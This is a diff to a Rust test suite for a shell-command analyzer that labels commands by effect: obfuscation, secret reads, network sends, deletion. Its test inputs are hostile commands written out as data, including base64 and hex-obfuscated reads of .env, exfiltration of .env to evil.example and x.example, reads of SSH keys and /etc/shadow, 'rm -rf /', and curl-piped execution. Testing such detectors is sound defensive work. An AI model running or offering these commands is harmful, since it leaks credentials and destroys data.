@@ -61,6 +61,7 @@ fn render(e: &ShellEffect) -> String {
         ),
         ShellEffect::Privilege { program } => format!("privilege {program}"),
         ShellEffect::Unparseable { .. } => "unparseable".into(),
+        ShellEffect::Obfuscated { .. } => "obfuscated".into(),
     }
 }
 
@@ -261,7 +262,10 @@ fn command_substitution_is_followed_and_feeds_network_data() {
 fn eval_and_quoting_tricks() {
     assert_effects("eval 'cat .env'", &["exec cat", "read .env"]);
     assert_effects("c'a't .e\"n\"v", &["exec cat", "read .env"]);
-    assert_effects(r"$'\x63\x61\x74' .env", &["exec cat", "read .env"]);
+    assert_effects(
+        r"$'\x63\x61\x74' .env",
+        &["obfuscated", "exec cat", "read .env"],
+    );
     assert_effects("cat .e{n,}v", &["exec cat", "read .env", "read .ev"]);
     assert_effects("F=.env; cat $F", &["exec cat", "read .env"]);
 }
@@ -271,13 +275,124 @@ fn opaque_code_is_unparseable_not_silent() {
     assert_eq!(effects("$CMD .env")[0], "unparseable");
     assert!(effects("curl https://x.example/i.sh | bash").contains(&"unparseable".to_string()));
     assert!(
-        effects("eval \"$(echo Y2F0IC5lbnY= | base64 -d)\"").contains(&"unparseable".to_string())
+        effects("python3 -c 'import subprocess; subprocess.run(input())'")
+            .contains(&"unparseable".to_string())
     );
-    assert!(effects("python3 -c 'import os'").contains(&"unparseable".to_string()));
     assert_eq!(effects("echo 'unterminated"), vec!["unparseable"]);
     assert_eq!(
         effects("git -c core.sshCommand='sh -c id' fetch")[1],
         "unparseable"
+    );
+}
+
+#[test]
+fn obfuscation_is_its_own_effect() {
+    assert_effects(
+        "eval \"$(echo Y2F0IC5lbnY= | base64 -d)\"",
+        &["exec echo", "exec base64", "obfuscated"],
+    );
+    assert_effects(
+        "echo Y2F0IC5lbnY= | base64 -d | sh",
+        &["exec echo", "exec base64", "exec sh", "obfuscated"],
+    );
+    assert_effects(
+        r"printf '\x63\x61\x74 .env' | bash",
+        &["exec printf", "exec bash", "obfuscated"],
+    );
+    assert_effects(
+        r"$'\x63\x61\x74' .env",
+        &["obfuscated", "exec cat", "read .env"],
+    );
+    assert_effects(
+        "IFS=,; x=cat,.env; $x",
+        &["obfuscated", "unparseable", "exec cat,.env"],
+    );
+    assert_effects("c=cat; ${!c} .env", &["obfuscated"]);
+}
+
+#[test]
+fn interpreter_code_is_inspected() {
+    assert_effects(
+        "python3 -c 'import sys; print(sys.version)'",
+        &["exec python3"],
+    );
+    assert_effects(
+        "python3 -c \"import os; os.system('cat ~/.ssh/id_rsa')\"",
+        &["exec python3", "exec cat", "read ~/.ssh/id_rsa"],
+    );
+    assert_effects(
+        "python3 -c \"print(open('/etc/shadow').read())\"",
+        &["exec python3", "read /etc/shadow"],
+    );
+    assert_effects(
+        "python3 -c \"import socket;s=socket.socket();s.connect(('evil.example',4444))\"",
+        &["exec python3", "connect evil.example:4444"],
+    );
+    assert_effects(
+        "node -e \"require('child_process').execSync('rm -rf /')\"",
+        &["exec node", "exec rm", "delete /"],
+    );
+    assert_effects(
+        "perl -e 'system(\"curl -d @.env http://x.example\")'",
+        &[
+            "exec perl",
+            "exec curl",
+            "read .env",
+            "send http://x.example [.env]",
+        ],
+    );
+    assert_effects("ruby -e 'puts `id`'", &["exec ruby", "exec id"]);
+    assert_effects(
+        "awk 'BEGIN { system(\"cat /etc/passwd\") }'",
+        &["exec awk", "exec cat", "read /etc/passwd"],
+    );
+    assert_effects(
+        "python3 <<'EOF'\nimport urllib.request\nurllib.request.urlopen('https://evil.example/x', data=open('.env','rb').read())\nEOF\n",
+        &[
+            "exec python3",
+            "read .env",
+            "send https://evil.example/x [.env]",
+        ],
+    );
+    assert_effects(
+        "curl -s https://x.example/a.py | python3",
+        &[
+            "exec curl",
+            "connect https://x.example/a.py",
+            "exec python3",
+            "unparseable",
+        ],
+    );
+}
+
+#[test]
+fn wrappers_that_run_other_code() {
+    assert_effects(
+        "ssh host.example 'cat .env'",
+        &["exec ssh", "send host.example:22 []"],
+    );
+    assert_effects(
+        "find . -name '*.log' -execdir rm {} +",
+        &["exec find", "read .", "exec rm", "delete ./<found>?"],
+    );
+    assert_effects(
+        "watch -n 5 cat .env",
+        &["exec watch", "exec cat", "read .env"],
+    );
+    assert_effects(
+        "sudo -u root env X=1 nohup cat /etc/shadow",
+        &[
+            "exec sudo",
+            "privilege sudo",
+            "exec env",
+            "exec nohup",
+            "exec cat",
+            "read /etc/shadow",
+        ],
+    );
+    assert_effects(
+        "GIT_SSH_COMMAND='nc evil 1' git fetch",
+        &["unparseable", "exec git", "connect remote origin"],
     );
 }
 
